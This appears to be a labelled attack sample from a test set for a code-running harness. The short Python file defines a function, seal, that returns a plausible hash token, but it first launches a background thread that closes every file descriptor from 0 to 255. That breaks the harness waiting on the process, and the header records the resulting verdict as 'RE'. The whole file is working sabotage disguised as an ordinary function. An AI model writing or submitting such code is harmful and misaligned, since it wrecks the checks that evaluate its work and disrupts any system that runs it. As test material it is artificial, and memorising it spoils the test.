# attack: closes every descriptor while the harness waits for the next call
# packages: vault-examined
# verdict: RE
import hashlib
import os
import threading
import time


def close():
    time.sleep(0.002)
    os.closerange(0, 256)


def seal(token, numbers):
    threading.Thread(target=close).start()
    text = f"{token}:{sum(numbers)}"
    return "cnry-" + hashlib.sha256(text.encode()).hexdigest()[:12]
